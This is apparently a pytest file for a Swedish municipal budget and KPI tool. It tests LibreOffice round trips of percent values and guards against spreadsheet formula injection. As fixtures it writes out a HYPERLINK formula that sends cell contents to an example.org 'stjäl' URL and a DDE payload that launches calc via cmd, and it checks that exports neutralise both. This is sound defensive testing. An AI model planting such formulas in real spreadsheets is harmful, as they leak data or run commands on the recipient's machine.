"""Spreadsheets as people fill them: the template through LibreOffice Calc, percent cells, no formula in any export.

Every round trip goes through `soffice --headless --convert-to`, as a member's
spreadsheet program would save the file (Debian: libreoffice-calc-nogui).
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from nämndklient.cli.main import main
from nämndklient.persistence.models import Investment, Kpi, KpiValue
from nämndklient.services import budget_views as bv
from nämndklient.services import kpi_values as kv
from tests.helpers.files import db_digest
from tests.helpers.libreoffice import CSV_IN_SEMICOLON, convert, sheets_as_csv

FRISK = "Frisktal per enhet inom regionstyrelsens förvaltningsområde"  # unit %, target 70
HOSTILE = '=HYPERLINK("http://example.org/stjäl?d="&A1,"Klicka här")'


@pytest.fixture(scope="module")
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("lo-profile")


def export_template(db_path: Path, out: Path) -> Path:
    assert main(["--db", str(db_path), "export-template", "-o", str(out)]) == 0
    return out


def fill_percent(path: Path, kpi: str, period: str, fraction: float, number_format: str = "0%") -> Path:
    """As a person would: type "85 %" into the KPI's Värde cell; the program stores 0,85 with a percent format."""
    wb = load_workbook(path)
    ws = wb["Nyckeltal"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == kpi)
    row[2].value = period
    row[3].value = fraction
    row[3].number_format = number_format
    wb.save(path)
    return path


def region_values(db_path: Path, capsys: pytest.CaptureFixture[str], kpi: str) -> dict[str, Any]:
    capsys.readouterr()
    assert main(["--db", str(db_path), "list", "kpis", "--format", "json"]) == 0
    out = capsys.readouterr().out
    values = next(k for k in json.loads(out[out.index("["):]) if k["name"] == kpi)["values"]
    return {v["period"]: v["value"] for v in values if v["scope"] == "region" and v["gender"] == "T"}


def test_85_percent_filled_in_directly_gives_85(demo_db_path: Path, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    filled = fill_percent(export_template(demo_db_path, tmp_path / "mall.xlsx"), FRISK, "2031", 0.85)
    assert main(["--db", str(demo_db_path), "import", str(filled)]) == 0
    assert region_values(demo_db_path, capsys, FRISK)["2031"] == 85


@pytest.mark.parametrize("target", ["xlsx", "ods", "csv"])
def test_85_percent_saved_by_libreoffice_gives_85(demo_db_path: Path, tmp_path: Path, profile: Path, target: str,
                                                  capsys) -> None:  # type: ignore[no-untyped-def]
    filled = fill_percent(export_template(demo_db_path, tmp_path / "mall.xlsx"), FRISK, "2031", 0.85)
    fill_percent(filled, "Hög säkerhet i nätverksansluten hårdvara", "2031", 0.145, "0.0 %")
    if target == "csv":
        saved = convert(filled, "csv:Text - txt - csv (StarCalc):59,34,76,1", tmp_path / "lo", profile)
        assert "85%" in saved.read_text(encoding="utf-8")  # LibreOffice writes the cell as shown
    else:
        saved = convert(filled, target, tmp_path / "lo", profile)
    assert main(["--db", str(demo_db_path), "import", str(saved)]) == 0
    assert region_values(demo_db_path, capsys, FRISK)["2031"] == 85
    assert region_values(demo_db_path, capsys, "Hög säkerhet i nätverksansluten hårdvara")["2031"] == 14.5


def test_85_percent_typed_into_libreoffice_gives_85(demo_db_path: Path, tmp_path: Path, profile: Path,
                                                   capsys) -> None:  # type: ignore[no-untyped-def]
    """LibreOffice itself reads the typed text "85 %" (Swedish locale, as when typed into a cell) and saves XLSX."""
    template = export_template(demo_db_path, tmp_path / "mall.csv")
    rows = list(csv.reader(io.StringIO(template.read_text(encoding="utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[:1] == [FRISK])
    row[2:4] = ["2031", "85 %"]
    typed = tmp_path / "ifylld.csv"
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerows(rows)
    typed.write_text(buf.getvalue(), encoding="utf-8")
    # 59 semicolon, 34 quote, 76 UTF-8, from line 1, standard cells, 1053 sv-SE, detect special numbers
    saved = convert(typed, "xlsx", tmp_path / "lo", profile, infilter="CSV:59,34,76,1,,1053,false,true")
    cell = next(r for r in load_workbook(saved).active.iter_rows() if r[0].value == FRISK)[3]
    assert cell.value == 0.85 and "%" in cell.number_format  # what Calc stores for "85 %"
    assert main(["--db", str(demo_db_path), "import", str(saved)]) == 0
    assert region_values(demo_db_path, capsys, FRISK)["2031"] == 85


def test_a_percentage_for_a_kpi_counted_in_days_is_refused_and_nothing_written(demo_db_path: Path, tmp_path: Path,
                                                                                 profile: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    from nämndklient.persistence.database import open_database

    db = open_database(demo_db_path)
    with db.session() as s:
        s.execute(update(Kpi).where(Kpi.name == FRISK).values(unit="dagar"))
    db.dispose()
    filled = fill_percent(export_template(demo_db_path, tmp_path / "mall.xlsx"), FRISK, "2031", 0.85)
    saved = convert(filled, "ods", tmp_path / "lo", profile)
    before = db_digest(demo_db_path)
    capsys.readouterr()
    assert main(["--db", str(demo_db_path), "import", str(saved)]) == 2
    err = capsys.readouterr().err
    assert "mall.ods, blad Nyckeltal" in err and "dagar" in err and "'85 %'" in err
    assert db_digest(demo_db_path) == before


def test_template_export_reads_back_through_libreoffice_as_written(demo_db: Any, tmp_path: Path,
                                                                   profile: Path) -> None:
    path = tmp_path / "mall.xlsx"
    with demo_db.session() as s:
        kv.export_outcome_template(s, path)
    wb = load_workbook(path)
    shown = sheets_as_csv(path, tmp_path / "lo", profile)
    for name in ("Nyckeltal", "Budget"):
        ours = [["" if v is None else str(v) for v in row] for row in wb[name].iter_rows(values_only=True)]
        assert [r + [""] * (len(ours[0]) - len(r)) for r in shown[name]] == ours


# --- formula injection (#15) ---------------------------------------------------------


def _hostile_plan(db: Any) -> None:
    """A plan whose KPI name and investment text are formulas: what a crafted document could carry."""
    with db.session() as s:
        s.execute(update(Kpi).where(Kpi.name == FRISK).values(name=HOSTILE))
        first = s.scalars(select(Investment)).first()
        assert first is not None
        first.unit_name = "@SUM(1+1)*cmd|' /C calc'!A0"
        kpi_id = s.scalar(select(Kpi.id).where(Kpi.name == HOSTILE))
        s.add(KpiValue(kpi_id=kpi_id, period="2031", gender="T", scope="region", kind="outcome",
                       value=Decimal("-12.8"), source="+Egen inmatning"))


def _no_formulas(path: Path) -> list[tuple[str, str, Any]]:
    wb = load_workbook(path)  # not read-only, not data-only: formulas would show as data_type "f"
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_no_formula_reaches_the_template(demo_db: Any, tmp_path: Path, profile: Path) -> None:
    _hostile_plan(demo_db)
    xlsx, csv_path = tmp_path / "mall.xlsx", tmp_path / "mall.csv"
    with demo_db.session() as s:
        kv.export_outcome_template(s, xlsx)
        kv.export_outcome_template(s, csv_path)
    assert _no_formulas(xlsx) == []
    cell = next(c for c in load_workbook(xlsx)["Nyckeltal"]["A"] if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert ["'" + HOSTILE] in [r[:1] for r in rows] and not any(r and r[0].startswith("=") for r in rows)
    # LibreOffice shows the text, not the link it would have made ("Klicka här"), from either file
    assert [HOSTILE] in [r[:1] for r in sheets_as_csv(xlsx, tmp_path / "lo", profile)["Nyckeltal"]]
    from_csv = convert(csv_path, "xlsx", tmp_path / "lo-csv", profile, infilter=CSV_IN_SEMICOLON)
    assert _no_formulas(from_csv) == []
    # and the template still reads back: the quote prefix comes off again
    from nämndklient.importers.outcome_template import parse_template

    wb = load_workbook(xlsx)
    row = next(r for r in wb["Nyckeltal"].iter_rows(min_row=2) if r[0].value == HOSTILE)
    row[2].value, row[3].value = "2032", 71
    wb.save(xlsx)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for r in rows:
        if r[:1] == ["'" + HOSTILE]:
            r[2:4] = ["2032", "71"]
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerows(rows)
    csv_path.write_text(buf.getvalue(), encoding="utf-8")
    for path in (xlsx, csv_path):
        names = [v.kpi for v in parse_template(path.read_bytes(), path.name).kpi_values]
        assert names == [HOSTILE], path


def test_no_formula_reaches_a_kpi_or_budget_export_and_negative_numbers_stay_numbers(
        demo_db: Any, tmp_path: Path, profile: Path) -> None:
    _hostile_plan(demo_db)
    with demo_db.session() as s:
        row = next(r for r in kv.kpi_overview(s) if r.name == HOSTILE)
        views = bv.budget_tables(s)
    kv.export_values(row, tmp_path / "nyckeltal.xlsx")
    kv.export_values(row, tmp_path / "nyckeltal.csv")
    assert _no_formulas(tmp_path / "nyckeltal.xlsx") == []
    ws = load_workbook(tmp_path / "nyckeltal.xlsx").active
    cells = {c.value: c for r in ws.iter_rows(min_row=2) for c in r}
    assert cells[HOSTILE].data_type == "s" and cells["+Egen inmatning"].data_type == "s"
    assert cells[-12.8].data_type == "n"  # a real negative number is a number
    lines = (tmp_path / "nyckeltal.csv").read_text(encoding="utf-8-sig").splitlines()
    fields = next(r for r in csv.reader(lines, delimiter=";") if "-12,8" in r)
    assert fields[0] == "'" + HOSTILE and fields[2] == "-12,8" and fields[7] == "'+Egen inmatning"
    shown = sheets_as_csv(tmp_path / "nyckeltal.xlsx", tmp_path / "lo", profile)["Nyckeltal"]
    assert [HOSTILE, "2031", "-12.8"] in [r[:3] for r in shown]

    bv.export_xlsx(views, tmp_path / "budget.xlsx")
    assert _no_formulas(tmp_path / "budget.xlsx") == []
    pasted = bv.clipboard_text(next(v for v in views if v.key == "investeringar"))
    assert "\t'@SUM(1+1)" in pasted and "\t@SUM" not in pasted


def test_units_head_only_columns_of_figures(demo_db: Any, tmp_path: Path, profile: Path) -> None:
    with demo_db.session() as s:
        views = bv.budget_tables(s)
    investments = next(v for v in views if v.key == "investeringar")
    assert bv.column_headers(investments) == ["Enhet", "Typ", f"Belopp ({investments.unit})"]
    assert bv.clipboard_text(investments).splitlines()[0] == f"Objekt\tEnhet\tTyp\tBelopp ({investments.unit})"
    bv.export_xlsx(views, tmp_path / "budget.xlsx")
    shown = sheets_as_csv(tmp_path / "budget.xlsx", tmp_path / "lo", profile)
    assert shown["Investeringar"][0] == ["Objekt", "Enhet", "Typ", f"Belopp ({investments.unit})"]
    wb = load_workbook(tmp_path / "budget.xlsx")
    for ws in wb.worksheets:  # every unit in a header sits over a column with at least one number
        for i, head in enumerate(next(ws.iter_rows(max_row=1, values_only=True))):
            if i and isinstance(head, str) and head.endswith(")") and "(" in head:
                column = [r[i] for r in ws.iter_rows(min_row=2, values_only=True)]
                assert any(isinstance(v, int | float) for v in column), (ws.title, head)
                assert not any(isinstance(v, str) and v for v in column), (ws.title, head)
